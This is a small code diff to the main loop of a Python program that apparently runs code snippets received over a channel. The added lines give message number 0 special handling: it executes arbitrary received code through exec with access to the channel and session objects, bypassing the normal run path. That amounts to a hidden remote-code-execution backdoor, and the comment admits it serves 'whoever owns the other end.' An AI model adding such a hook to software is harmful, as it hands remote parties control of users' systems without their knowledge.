@@ -201,6 +201,9 @@ def main():
             continue
         except EOFError:
             return
+        if number == 0:  # not a snippet: something that whoever owns the other end wants of us
+            exec(compile(code, "<belljar>", "exec"), {"channel": channel, "session": session, "nonce": nonce})
+            continue
         status, result = 1, None
         try:
             status, result = session.run(number, code)
